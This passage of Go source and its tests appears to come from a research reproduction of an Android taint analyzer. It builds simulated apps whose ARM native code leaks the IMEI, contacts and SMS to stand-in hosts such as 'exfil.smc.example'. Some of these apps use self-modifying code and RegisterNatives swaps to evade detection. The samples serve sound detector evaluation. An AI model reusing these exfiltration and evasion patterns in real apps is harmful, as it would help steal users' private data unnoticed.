; void mutate(JNIEnv*, jclass) — SMC write into impl A, then re-register
Java_mutate:
	PUSH {R4, LR}
	MOV R4, R0
	; self-modify: rewrite impl A's first word in place. The value is
	; unchanged, but the store lands inside a decoded+translated code
	; extent, so every cached translation of that page must die.
	LDR R0, =Java_processA
	LDR R1, [R0]
	STR R1, [R0]
	; RegisterNatives(process -> Java_processB)
	MOV R0, R4
	LDR R1, =cls_name
	BL FindClass
	MOV R1, R0
	MOV R0, R4
	LDR R2, =njm
	MOV R3, #1
	BL RegisterNatives
	POP {R4, PC}

cls_name:
	.asciz "com/hostile/smc/Main"
pname:
	.asciz "process"
psig:
	.asciz "(Ljava/lang/String;)Ljava/lang/String;"
host:
	.asciz "exfil.smc.example"
	.align 4
njm:
	.word pname, psig, Java_processB
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("process", "LL", dex.AccStatic, 0)
			cb.NativeMethod("mutate", "V", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 3).
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
				MoveResult(0).
				// Warm the benign impl until its code page is translated.
				Const(1, 5).
				Label("loop").
				IfZ(1, dex.Le, "swap").
				InvokeStatic(cls, "process", "LL", 0).
				MoveResult(2).
				BinLit(dex.Sub, 1, 1, 1).
				Goto("loop").
				Label("swap").
				InvokeStatic(cls, "mutate", "V").
				InvokeStatic(cls, "process", "LL", 0).
				MoveResult(2).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			if err := sys.VM.BindNative(cls, "process", prog, "Java_processA"); err != nil {
				return err
			}
			return sys.VM.BindNative(cls, "mutate", prog, "Java_mutate")
		},
	}
}

// HostilePinswapApp attacks the static clean-pin layer head on. Its checksum
// helper is provably pure, so a Static=PinLevel pass pins it before the run;
// its `process` native starts benign. Mid-run a RegisterNatives call swaps
// `process` to a leaking implementation — at which point every clean-pin
// derived from the pre-swap world is stale. The analyzer must void the pins
// (logged as StaticPinVoid, counted in RunResult.PinsVoided), re-derive the
// post-swap checksum call without the pinned fast path, and still catch the
// leak on the next crossing.
func HostilePinswapApp() *App {
	const cls = "Lcom/hostile/pinswap/Main;"
	return &App{
		Name:        "hostile-pinswap",
		Desc:        "hostile: RegisterNatives swap voids static clean-pins pinned before the run",
		Case:        "2",
		EntryClass:  cls,
		EntryMethod: "run",
		Hostile:     true,
		ExpectTag:   taint.IMEI,
		ExpectSink:  "sendto",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libpinswap.so", `
; jstring process(JNIEnv*, jclass, jstring) — impl A: identity
Java_processA:
	PUSH {R4, LR}
	MOV R0, R2
	POP {R4, PC}

; jstring process(JNIEnv*, jclass, jstring) — impl B: leak via sendto
Java_processB:
	PUSH {R4, R5, R6, R7, LR}
	MOV R4, R0
	MOV R7, R2
	MOV R1, R2
	MOV R2, #0
	BL GetStringUTFChars
	MOV R5, R0
	BL strlen
	MOV R6, R0
	MOV R0, #2
	MOV R1, #1
	MOV R2, #0
	BL socket
	MOV R1, R5
	MOV R2, R6
	LDR R3, =host
	BL sendto
	MOV R0, R7
	POP {R4, R5, R6, R7, PC}

; void swap(JNIEnv*, jclass) — RegisterNatives(process -> Java_processB)
Java_swap:
	PUSH {R4, LR}
	MOV R4, R0
	LDR R1, =cls_name
	BL FindClass
	MOV R1, R0
	MOV R0, R4
	LDR R2, =njm
	MOV R3, #1
	BL RegisterNatives
	POP {R4, PC}

cls_name:
	.asciz "com/hostile/pinswap/Main"
pname:
	.asciz "process"
psig:
	.asciz "(Ljava/lang/String;)Ljava/lang/String;"
host:
	.asciz "exfil.pinswap.example"
	.align 4
njm:
	.word pname, psig, Java_processB
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("process", "LL", dex.AccStatic, 0)
			cb.NativeMethod("swap", "V", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 3).
				// Pinned-clean checksum runs before the swap...
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
				MoveResult(0).
				Const(1, 5).
				Label("loop").
				IfZ(1, dex.Le, "swap").
				InvokeStatic(cls, "process", "LL", 0).
				MoveResult(2).
				BinLit(dex.Sub, 1, 1, 1).
				Goto("loop").
				Label("swap").
				InvokeStatic(cls, "swap", "V").
				// ...and again after: the voided pin must not serve the stale
				// clean variant, and the next crossing must leak.
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic(cls, "process", "LL", 0).
				MoveResult(2).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			if err := sys.VM.BindNative(cls, "process", prog, "Java_processA"); err != nil {
				return err
			}
			return sys.VM.BindNative(cls, "swap", prog, "Java_swap")
		},
	}
}
