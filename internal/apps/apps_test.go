package apps_test

import (
	"testing"

	"repro/internal/apps"
	"repro/internal/core"
	"repro/internal/dex"
)

func TestRegistryCoversAllCases(t *testing.T) {
	cases := map[string]bool{}
	for _, a := range apps.Registry() {
		cases[a.Case] = true
	}
	for _, want := range []string{"1", "1'", "2", "3", "4", "benign"} {
		if !cases[want] {
			t.Errorf("no app for case %q", want)
		}
	}
}

func TestAllAppsInstallAndRunVanilla(t *testing.T) {
	for _, app := range apps.Registry() {
		app := app
		t.Run(app.Name, func(t *testing.T) {
			sys, err := core.NewSystem()
			if err != nil {
				t.Fatal(err)
			}
			if err := app.Install(sys); err != nil {
				t.Fatalf("install: %v", err)
			}
			core.NewAnalyzer(sys, core.ModeVanilla)
			if err := app.Run(sys); err != nil {
				t.Fatalf("run: %v", err)
			}
		})
	}
}

func TestByName(t *testing.T) {
	if _, ok := apps.ByName("qqphonebook"); !ok {
		t.Error("qqphonebook missing")
	}
	if _, ok := apps.ByName("nonexistent"); ok {
		t.Error("bogus name resolved")
	}
}

// TestGroundTruthDataLeaves: regardless of analysis, the leaking apps really
// transmit the sensitive data (verifiable against the kernel's net/fs logs).
func TestGroundTruthDataLeaves(t *testing.T) {
	checks := map[string]func(sys *core.System) bool{
		"qqphonebook": func(sys *core.System) bool {
			return len(sys.Kern.Net.SentTo("info.3g.qq.com")) == 1
		},
		"ephone": func(sys *core.System) bool {
			return len(sys.Kern.Net.SentTo("softphone.comwave.net")) == 1
		},
		"poc-case2": func(sys *core.System) bool {
			return sys.Kern.FS.Exists("/sdcard/CONTACTS")
		},
		"case3-pull": func(sys *core.System) bool {
			return len(sys.Kern.Net.SentTo("collector.example.net")) == 1
		},
		"case4": func(sys *core.System) bool {
			return len(sys.Kern.Net.SentTo("field.exfil.example")) == 1
		},
	}
	for name, check := range checks {
		app, ok := apps.ByName(name)
		if !ok {
			t.Fatalf("missing app %s", name)
		}
		sys, err := core.NewSystem()
		if err != nil {
			t.Fatal(err)
		}
		if err := app.Install(sys); err != nil {
			t.Fatal(err)
		}
		core.NewAnalyzer(sys, core.ModeVanilla)
		if err := app.Run(sys); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if !check(sys) {
			t.Errorf("%s: ground-truth leak did not happen", name)
		}
	}
}

// TestDriverFindsLeakEventually: random driving hits the leaking entry point.
func TestDriverFindsLeakEventually(t *testing.T) {
	app, _ := apps.ByName("ephone")
	sys, err := core.NewSystem()
	if err != nil {
		t.Fatal(err)
	}
	if err := app.Install(sys); err != nil {
		t.Fatal(err)
	}
	a := core.NewAnalyzer(sys, core.ModeNDroid)
	d := apps.NewDriver(42, 5)
	hit, err := d.Exercise(sys)
	if err != nil {
		t.Fatal(err)
	}
	if len(hit) == 0 {
		t.Fatal("driver hit nothing")
	}
	if !a.Detected(app.ExpectTag) {
		t.Error("driver-exercised app should have leaked")
	}
}

// TestDriverMissesGuardedPath demonstrates the §VII limitation: a leak
// behind an entry point the random driver never selects goes unreported.
func TestDriverMissesGuardedPath(t *testing.T) {
	sys, err := core.NewSystem()
	if err != nil {
		t.Fatal(err)
	}
	// An app with many benign entry points and one leaking one.
	cb := dex.NewClass("Lcom/test/Haystack;")
	for i := 0; i < 40; i++ {
		cb.Method("noop"+string(rune('a'+i%26))+string(rune('a'+i/26)), "V", dex.AccStatic, 1).
			Const(0, 1).
			ReturnVoid().
			Done()
	}
	cb.Method("zleak", "V", dex.AccStatic, 2).
		InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
		MoveResult(0).
		ConstString(1, "evil.example").
		InvokeStatic("Landroid/net/Network;", "send", "VLL", 1, 0).
		ReturnVoid().
		Done()
	sys.VM.RegisterClass(cb.Build())
	a := core.NewAnalyzer(sys, core.ModeNDroid)

	// Two random events across 41 entry points: overwhelmingly likely to
	// miss the leak with this seed (deterministic).
	d := apps.NewDriver(7, 2)
	if _, err := d.Exercise(sys); err != nil {
		t.Fatal(err)
	}
	if len(a.Leaks) != 0 {
		t.Skip("seed happened to find the leak; the limitation demo needs a different seed")
	}
	// Exhaustive driving does find it.
	d2 := apps.NewDriver(7, 400)
	if _, err := d2.Exercise(sys); err != nil {
		t.Fatal(err)
	}
	if len(a.Leaks) == 0 {
		t.Error("exhaustive driving should find the leak")
	}
}
