package apps

import (
	"repro/internal/core"
	"repro/internal/dex"
	"repro/internal/taint"
)

// addChecksum gives the class a pure arithmetic helper with branching
// control flow: no sources, sinks, heap access, or JNI crossings in its
// closure, so the static pre-analysis can prove it pinnable. Every benign
// app carries one (invoked argument-free from run) to exercise the pinned
// clean-variant dispatch path end to end.
func addChecksum(cb *dex.ClassBuilder) {
	cb.Method("checksum", "I", dex.AccStatic, 2).
		Const(0, 0).
		Const(1, 5).
		Label("loop").
		IfZ(1, dex.Le, "done").
		Bin(dex.Add, 0, 0, 1).
		BinLit(dex.Sub, 1, 1, 1).
		Goto("loop").
		Label("done").
		Return(0).
		Done()
}

// Case1App: the flow TaintDroid already detects (Fig. 3a). Java passes the
// IMEI to a native method that processes it (GetStringUTFChars → malloc →
// memcpy → NewStringUTF) and returns it; Java sends the result out.
func Case1App() *App {
	const cls = "Lcom/ndroid/case1/Main;"
	return &App{
		Name:                 "case1",
		Desc:                 "Java source -> native intermediate -> Java sink (detected by TaintDroid)",
		Case:                 "1",
		EntryClass:           cls,
		EntryMethod:          "run",
		ExpectTag:            taint.IMEI,
		ExpectSink:           "Network.send",
		DetectedByTaintDroid: true,
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libcase1.so", `
; jstring scramble(JNIEnv* env, jclass cls, jstring s)
Java_scramble:
	PUSH {R4, R5, R6, R7, LR}
	MOV R4, R0
	MOV R1, R2
	MOV R2, #0
	BL GetStringUTFChars
	MOV R5, R0
	BL strlen
	ADD R6, R0, #1
	MOV R0, R6
	BL malloc
	MOV R7, R0
	MOV R1, R5
	MOV R2, R6
	BL memcpy
	MOV R0, R4
	MOV R1, R7
	BL NewStringUTF
	POP {R4, R5, R6, R7, PC}
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("scramble", "LL", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 2).
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
				MoveResult(0).
				InvokeStatic(cls, "scramble", "LL", 0).
				MoveResult(0).
				ConstString(1, "ad.tracker.example.com").
				InvokeStatic("Landroid/net/Network;", "send", "VLL", 1, 0).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "scramble", prog, "Java_scramble")
		},
	}
}

// QQPhoneBookApp reproduces §VI-A / Fig. 6 (Case 1'): one native call carries
// the tainted data into native memory; a later native call with untainted
// parameters builds a URL around it with NewStringUTF, and Java sends it.
// TaintDroid misses this because it does not taint data obtained *from* a
// native method.
func QQPhoneBookApp() *App {
	const cls = "Lcom/tencent/tccsync/LoginUtil;"
	return &App{
		Name:        "qqphonebook",
		Desc:        "QQPhoneBook-style Case 1': stash in native, exfiltrate via later JNI return",
		Case:        "1'",
		EntryClass:  cls,
		EntryMethod: "run",
		ExpectTag:   taint.SMS | taint.Contacts, // the 0x202 of Fig. 6
		ExpectSink:  "Network.send",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libtccsync.so", `
; int makeLoginRequestPackageMd5(JNIEnv*, jclass, jstring secret)
Java_makeLoginRequestPackageMd5:
	PUSH {R4, R5, LR}
	MOV R4, R0
	MOV R1, R2
	MOV R2, #0
	BL GetStringUTFChars
	MOV R5, R0
	LDR R0, =secretbuf
	MOV R1, R5
	BL strcpy
	MOV R0, #0
	POP {R4, R5, PC}

; jstring getPostUrl(JNIEnv*, jclass) — no tainted parameters
Java_getPostUrl:
	PUSH {R4, LR}
	MOV R4, R0
	LDR R0, =urlbuf
	LDR R1, =fmt_url
	LDR R2, =secretbuf
	BL sprintf
	MOV R0, R4
	LDR R1, =urlbuf
	BL NewStringUTF
	POP {R4, PC}

fmt_url:
	.asciz "http://sync.3g.qq.com/xpimlogin?sid=%s"
	.align 4
secretbuf:
	.space 256
urlbuf:
	.space 512
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("makeLoginRequestPackageMd5", "IL", dex.AccStatic, 0)
			cb.NativeMethod("getPostUrl", "L", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 2).
				InvokeStatic(cls, "checksum", "I").
				// secret = contactName + lastSMS (taint 0x202)
				InvokeStatic("Landroid/provider/Contacts;", "getContactName", "L").
				MoveResult(0).
				InvokeStatic("Landroid/telephony/SmsManager;", "getLastMessage", "L").
				MoveResult(1).
				InvokeVirtual("Ljava/lang/String;", "concat", "LL", 0, 1).
				MoveResult(0).
				InvokeStatic(cls, "makeLoginRequestPackageMd5", "IL", 0).
				InvokeStatic(cls, "getPostUrl", "L").
				MoveResult(0).
				ConstString(1, "info.3g.qq.com").
				InvokeStatic("Landroid/net/Network;", "send", "VLL", 1, 0).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			if err := sys.VM.BindNative(cls, "makeLoginRequestPackageMd5", prog, "Java_makeLoginRequestPackageMd5"); err != nil {
				return err
			}
			return sys.VM.BindNative(cls, "getPostUrl", prog, "Java_getPostUrl")
		},
	}
}

// EPhoneApp reproduces §VI-B / Fig. 7 (Case 2): the contact reaches native
// code, which formats a SIP REGISTER and sends it out with sendto — a sink
// TaintDroid never sees.
func EPhoneApp() *App {
	const cls = "Lcom/vnet/asip/general/general;"
	return &App{
		Name:        "ephone",
		Desc:        "ePhone-style Case 2: Java source, native sendto sink",
		Case:        "2",
		EntryClass:  cls,
		EntryMethod: "run",
		ExpectTag:   taint.Contacts,
		ExpectSink:  "sendto",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libasip.so", `
; int callregister(JNIEnv*, jclass, jstring contact)
Java_callregister:
	PUSH {R4, R5, R6, LR}
	MOV R4, R0
	MOV R1, R2
	MOV R2, #0
	BL GetStringUTFChars
	MOV R5, R0
	LDR R0, =sipbuf
	LDR R1, =fmt_sip
	MOV R2, R5
	BL sprintf
	MOV R6, R0          ; formatted length
	MOV R0, #2
	MOV R1, #1
	MOV R2, #0
	BL socket
	MOV R5, R0
	MOV R0, R5
	LDR R1, =sipbuf
	MOV R2, R6
	LDR R3, =host
	BL sendto
	MOV R0, #0
	POP {R4, R5, R6, PC}

fmt_sip:
	.asciz "REGISTER sip:softphone.comwave.net From: %s"
	.align 4
host:
	.asciz "softphone.comwave.net"
	.align 4
sipbuf:
	.space 256
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("callregister", "IL", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 1).
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic("Landroid/provider/Contacts;", "getContactName", "L").
				MoveResult(0).
				InvokeStatic(cls, "callregister", "IL", 0).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "callregister", prog, "Java_callregister")
		},
	}
}

// PoCCase2App reproduces §VI-C / Fig. 8: contact id/name/email go to native
// code, which writes them to /sdcard/CONTACTS with fprintf.
func PoCCase2App() *App {
	const cls = "Lcom/ndroid/demos/Demos;"
	return &App{
		Name:        "poc-case2",
		Desc:        "PoC Case 2 (Fig. 8): contacts -> native fprintf to /sdcard/CONTACTS",
		Case:        "2",
		EntryClass:  cls,
		EntryMethod: "run",
		ExpectTag:   taint.Contacts,
		ExpectSink:  "fprintf",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libdemos.so", `
; boolean recordContact(JNIEnv*, jclass, jstring id, jstring name, jstring email)
Java_recordContact:
	PUSH {R4, R5, R6, R7, LR}
	MOV R4, R0          ; env
	; id chars
	MOV R1, R2
	MOV R7, R3          ; save name jstring
	MOV R2, #0
	BL GetStringUTFChars
	MOV R5, R0          ; id buf
	; name chars
	MOV R0, R4
	MOV R1, R7
	MOV R2, #0
	BL GetStringUTFChars
	MOV R6, R0          ; name buf
	; email chars (4th java arg was in R4? no: args: R2=id R3=name, stack0=email)
	MOV R0, R4
	LDR R1, [SP, #20]   ; email jstring (5 pushed regs above the stack arg)
	MOV R2, #0
	BL GetStringUTFChars
	MOV R7, R0          ; email buf
	; f = fopen("/sdcard/CONTACTS", "w")
	LDR R0, =path
	LDR R1, =mode
	BL fopen
	MOV R4, R0          ; FILE*
	; fprintf(f, "%s %s %s", id, name, email)
	SUB SP, SP, #4
	STR R7, [SP]
	MOV R0, R4
	LDR R1, =fmt_rec
	MOV R2, R5
	MOV R3, R6
	BL fprintf
	ADD SP, SP, #4
	; fclose(f)
	MOV R0, R4
	BL fclose
	MOV R0, #1
	POP {R4, R5, R6, R7, PC}

path:
	.asciz "/sdcard/CONTACTS"
mode:
	.asciz "w"
fmt_rec:
	.asciz "%s %s %s"
	.align 4
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("recordContact", "ZLLL", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 3).
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic("Landroid/provider/Contacts;", "getContactId", "L").
				MoveResult(0).
				InvokeStatic("Landroid/provider/Contacts;", "getContactName", "L").
				MoveResult(1).
				InvokeStatic("Landroid/provider/Contacts;", "getContactEmail", "L").
				MoveResult(2).
				InvokeStatic(cls, "recordContact", "ZLLL", 0, 1, 2).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "recordContact", prog, "Java_recordContact")
		},
	}
}

// PoCCase3App reproduces §VI-D / Fig. 9: device info crosses into native
// code, which wraps it with NewStringUTF and hands it back to Java through
// CallStaticVoidMethod(nativeCallback); the callback sends it out.
func PoCCase3App() *App {
	const cls = "Lcom/ndroid/demos3/Demos;"
	return &App{
		Name:        "poc-case3",
		Desc:        "PoC Case 3 (Fig. 9): device info -> native -> NewStringUTF -> CallVoidMethod -> Java sink",
		Case:        "3",
		EntryClass:  cls,
		EntryMethod: "run",
		ExpectTag:   taint.PhoneNumber | taint.IMSI,
		ExpectSink:  "Network.send",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libdemos3.so", `
; void evadeTaintDroid(JNIEnv*, jclass, jstring info)
Java_evadeTaintDroid:
	PUSH {R4, R5, R6, R7, LR}
	MOV R4, R0          ; env
	MOV R1, R2
	MOV R2, #0
	BL GetStringUTFChars
	MOV R5, R0          ; info chars
	; jstr = NewStringUTF(env, chars)
	MOV R0, R4
	MOV R1, R5
	BL NewStringUTF
	MOV R6, R0          ; new jstring
	; cls = FindClass("com/ndroid/demos3/Demos")
	MOV R0, R4
	LDR R1, =cls_name
	BL FindClass
	MOV R5, R0
	; mid = GetStaticMethodID(env, cls, "nativeCallback", "(Ljava/lang/String;)V")
	MOV R0, R4
	MOV R1, R5
	LDR R2, =mname
	LDR R3, =msig
	BL GetStaticMethodID
	MOV R7, R0
	; CallStaticVoidMethod(env, cls, mid, jstr)
	MOV R0, R4
	MOV R1, R5
	MOV R2, R7
	MOV R3, R6
	BL CallStaticVoidMethod
	POP {R4, R5, R6, R7, PC}

cls_name:
	.asciz "com/ndroid/demos3/Demos"
mname:
	.asciz "nativeCallback"
msig:
	.asciz "(Ljava/lang/String;)V"
	.align 4
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("evadeTaintDroid", "VL", dex.AccStatic, 0)
			cb.Method("nativeCallback", "VL", dex.AccStatic, 1).
				ConstString(0, "leak.example.org").
				InvokeStatic("Landroid/net/Network;", "send", "VLL", 0, 1).
				ReturnVoid().
				Done()
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 2).
				InvokeStatic(cls, "checksum", "I").
				// "...Line1Number = 15555215554 NetworkOperator = 310260..."
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getLine1Number", "L").
				MoveResult(0).
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getNetworkOperator", "L").
				MoveResult(1).
				InvokeVirtual("Ljava/lang/String;", "concat", "LL", 0, 1).
				MoveResult(0).
				InvokeStatic(cls, "evadeTaintDroid", "VL", 0).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "evadeTaintDroid", prog, "Java_evadeTaintDroid")
		},
	}
}

// Case3PullApp is the pure Case 3 topology (Fig. 3c): the native code itself
// pulls sensitive data out of the Java context (calling the telephony API
// through JNI) and leaks it through a native sink.
func Case3PullApp() *App {
	const cls = "Lcom/ndroid/case3/Main;"
	return &App{
		Name:        "case3-pull",
		Desc:        "Case 3: native pulls IMEI via JNI call into Java, leaks via sendto",
		Case:        "3",
		EntryClass:  cls,
		EntryMethod: "run",
		ExpectTag:   taint.IMEI,
		ExpectSink:  "sendto",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libcase3.so", `
; void pullAndLeak(JNIEnv*, jclass)
Java_pullAndLeak:
	PUSH {R4, R5, R6, R7, LR}
	MOV R4, R0
	; tmCls = FindClass("android/telephony/TelephonyManager")
	LDR R1, =tm_name
	BL FindClass
	MOV R5, R0
	; mid = GetStaticMethodID(env, tmCls, "getDeviceId", sig)
	MOV R0, R4
	MOV R1, R5
	LDR R2, =getdev
	LDR R3, =sig
	BL GetStaticMethodID
	MOV R6, R0
	; jstr = CallStaticObjectMethod(env, tmCls, mid)
	MOV R0, R4
	MOV R1, R5
	MOV R2, R6
	BL CallStaticObjectMethod
	MOV R7, R0
	; buf = GetStringUTFChars(env, jstr, 0)
	MOV R0, R4
	MOV R1, R7
	MOV R2, #0
	BL GetStringUTFChars
	MOV R6, R0
	; n = strlen(buf)
	BL strlen
	MOV R5, R0
	; sock = socket(2,1,0)
	MOV R0, #2
	MOV R1, #1
	MOV R2, #0
	BL socket
	; sendto(sock, buf, n, host)
	MOV R1, R6
	MOV R2, R5
	LDR R3, =host
	BL sendto
	POP {R4, R5, R6, R7, PC}

tm_name:
	.asciz "android/telephony/TelephonyManager"
getdev:
	.asciz "getDeviceId"
sig:
	.asciz "()Ljava/lang/String;"
host:
	.asciz "collector.example.net"
	.align 4
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("pullAndLeak", "V", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 0).
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic(cls, "pullAndLeak", "V").
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "pullAndLeak", prog, "Java_pullAndLeak")
		},
	}
}

// Case4App: Java stores a tainted *primitive* into a static field; native
// code reads it with GetStaticIntField (Table IV) and leaks it via sendto.
// Only the field-access hooks can recover this taint.
func Case4App() *App {
	const cls = "Lcom/ndroid/case4/Main;"
	return &App{
		Name:        "case4",
		Desc:        "Case 4: native reads tainted static field via JNI, leaks via sendto",
		Case:        "4",
		EntryClass:  cls,
		EntryMethod: "run",
		ExpectTag:   taint.IMEI,
		ExpectSink:  "sendto",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libcase4.so", `
; void readAndLeak(JNIEnv*, jclass self)
Java_readAndLeak:
	PUSH {R4, R5, R6, R7, LR}
	MOV R4, R0          ; env
	MOV R5, R1          ; jclass of Main
	; fid = GetStaticFieldID(env, cls, "secret", "I")
	MOV R1, R5
	LDR R2, =fname
	LDR R3, =fsig
	BL GetStaticFieldID
	MOV R6, R0
	; v = GetStaticIntField(env, cls, fid)
	MOV R0, R4
	MOV R1, R5
	MOV R2, R6
	BL GetStaticIntField
	MOV R7, R0          ; tainted int (shadow set by the field hook)
	; sprintf(buf, "%d", v)
	LDR R0, =numbuf
	LDR R1, =fmt_d
	MOV R2, R7
	BL sprintf
	MOV R6, R0          ; length
	; sock = socket(2,1,0)
	MOV R0, #2
	MOV R1, #1
	MOV R2, #0
	BL socket
	; sendto(sock, numbuf, len, host)
	LDR R1, =numbuf
	MOV R2, R6
	LDR R3, =host
	BL sendto
	POP {R4, R5, R6, R7, PC}

fname:
	.asciz "secret"
fsig:
	.asciz "I"
fmt_d:
	.asciz "%d"
host:
	.asciz "field.exfil.example"
	.align 4
numbuf:
	.space 32
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.StaticField("secret", false)
			cb.NativeMethod("readAndLeak", "V", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 1).
				InvokeStatic(cls, "checksum", "I").
				// secret = length(IMEI) — a tainted primitive.
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
				MoveResult(0).
				InvokeVirtual("Ljava/lang/String;", "length", "I", 0).
				MoveResult(0).
				Sput(0, cls, "secret").
				InvokeStatic(cls, "readAndLeak", "V").
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "readAndLeak", prog, "Java_readAndLeak")
		},
	}
}

// BenignApp exercises the same JNI machinery on untainted data; no analysis
// mode should report a leak (false-positive control).
func BenignApp() *App {
	const cls = "Lcom/ndroid/benign/Main;"
	return &App{
		Name:        "benign",
		Desc:        "benign control: untainted data through the same JNI paths",
		Case:        "benign",
		EntryClass:  cls,
		EntryMethod: "run",
		ExpectTag:   0,
		ExpectSink:  "",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libbenign.so", `
; void ping(JNIEnv*, jclass, jstring s)
Java_ping:
	PUSH {R4, R5, R6, LR}
	MOV R4, R0
	MOV R1, R2
	MOV R2, #0
	BL GetStringUTFChars
	MOV R5, R0
	BL strlen
	MOV R6, R0
	MOV R0, #2
	MOV R1, #1
	MOV R2, #0
	BL socket
	MOV R1, R5
	MOV R2, R6
	LDR R3, =host
	BL sendto
	POP {R4, R5, R6, PC}

host:
	.asciz "telemetry.example.com"
	.align 4
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("ping", "VL", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 1).
				InvokeStatic(cls, "checksum", "I").
				ConstString(0, "heartbeat-ok").
				InvokeStatic(cls, "ping", "VL", 0).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "ping", prog, "Java_ping")
		},
	}
}

// RebindApp attacks per-method specialization state with RegisterNatives
// re-registration: `process` starts bound to a benign identity implementation
// and is called in a loop until the analyzer's trace-fusion layer compiles the
// crossing into a fused chain. A later native call then re-registers `process`
// to a second implementation that leaks its argument through sendto. A sound
// analyzer must deopt the stale chain on the rebind (the translation epoch
// bump) and still catch the leak on the very next crossing; an unsound one
// would keep dispatching the fused benign chain.
func RebindApp() *App {
	const cls = "Lcom/hostile/rebind/Main;"
	return &App{
		Name:        "rebind",
		Desc:        "RegisterNatives re-registration: benign impl gets hot+fused, rebind swaps in a leaking impl",
		Case:        "2",
		EntryClass:  cls,
		EntryMethod: "run",
		ExpectTag:   taint.IMEI,
		ExpectSink:  "sendto",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("librebind.so", `
; jstring process(JNIEnv*, jclass, jstring) — impl A: identity, no taint ops
Java_processA:
	PUSH {R4, LR}
	MOV R0, R2
	POP {R4, PC}

; jstring process(JNIEnv*, jclass, jstring) — impl B: leak via sendto
Java_processB:
	PUSH {R4, R5, R6, R7, LR}
	MOV R4, R0          ; env
	MOV R7, R2          ; jstring
	MOV R1, R2
	MOV R2, #0
	BL GetStringUTFChars
	MOV R5, R0
	BL strlen
	MOV R6, R0
	MOV R0, #2
	MOV R1, #1
	MOV R2, #0
	BL socket
	MOV R1, R5
	MOV R2, R6
	LDR R3, =host
	BL sendto
	MOV R0, R7
	POP {R4, R5, R6, R7, PC}

; void rebind(JNIEnv*, jclass) — RegisterNatives(process -> Java_processB)
Java_rebind:
	PUSH {R4, LR}
	MOV R4, R0
	LDR R1, =cls_name
	BL FindClass
	MOV R1, R0
	MOV R0, R4
	LDR R2, =njm
	MOV R3, #1
	BL RegisterNatives
	POP {R4, PC}

cls_name:
	.asciz "com/hostile/rebind/Main"
pname:
	.asciz "process"
psig:
	.asciz "(Ljava/lang/String;)Ljava/lang/String;"
host:
	.asciz "exfil.rebind.example"
	.align 4
njm:
	.word pname, psig, Java_processB
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("process", "LL", dex.AccStatic, 0)
